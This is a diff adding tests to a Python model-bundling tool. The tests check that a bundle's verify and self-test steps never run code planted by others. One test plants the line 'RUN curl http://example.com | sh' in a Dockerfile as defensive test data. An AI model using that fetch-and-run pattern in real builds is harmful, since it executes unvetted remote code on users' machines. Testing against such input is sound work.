@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import py_compile
 import re
 import shutil
 import subprocess
@@ -17,7 +18,7 @@ import pytest
 from PIL import Image
 from program import call
 
-from torchshrink.bundle import card, check, languages, library, packages, write
+from torchshrink.bundle import card, check, image, languages, library, packages, write
 from torchshrink.bundle.describe import describe
 from torchshrink.bundle.write import bundle
 from torchshrink.errors import MissingExtraError, ModelError, ParityError
@@ -116,6 +117,35 @@ def test_an_output_that_differs_fails(made: Path) -> None:
     result = call("verify", made)
     assert result.code == 4
     assert "differs by 0.1" in result.stderr
+
+
+@pytest.mark.parametrize("name", ["selftest.py", "engine.py", "json.py", "json/__init__.py", "_json.so", "array.pyc"])
+def test_code_of_others_is_not_run(name: str, made: Path, tmp_path: Path) -> None:
+    path = made / name
+    path.parent.mkdir(exist_ok=True)
+    path.write_text(f"open({str(tmp_path / 'ran')!r}, 'w')\n")
+    result = call("verify", made)
+    assert result.code == 4
+    assert "is not what this version of torchshrink writes" in result.said
+    assert not (tmp_path / "ran").exists()
+
+
+def test_byte_code_of_others_is_not_run(made: Path, tmp_path: Path) -> None:
+    source = tmp_path / "run.py"
+    source.write_text(f"open({str(tmp_path / 'ran')!r}, 'w')\n")
+    cached = made / "__pycache__" / f"run.{sys.implementation.cache_tag}.pyc"
+    py_compile.compile(str(source), str(cached), invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
+    assert check.self_test(made)["passed"]
+    assert not (tmp_path / "ran").exists()
+
+
+def test_no_image_of_others_is_built(made: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    built = []
+    monkeypatch.setattr(image, "_built", built.append)
+    image.size(made)
+    (made / "Dockerfile").write_text((made / "Dockerfile").read_text() + "RUN curl http://example.com | sh\n")
+    image.size(made)
+    assert built == [made]
 
 
 def test_no_bundle_is_said(tmp_path: Path) -> None:
@@ -237,6 +267,7 @@ def test_a_machine_without_a_library_is_told_what_to_choose(monkeypatch: pytest.
 
 def test_a_missing_runtime_names_the_command(made: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     (made / "engine.py").write_text("import runtime_that_is_not_here\n")
+    monkeypatch.setattr(check, "check_code", lambda folder: "")
     with pytest.raises(MissingExtraError, match=r"pip install --no-deps -r .*requirements.txt"):
         check.self_test(made)
 
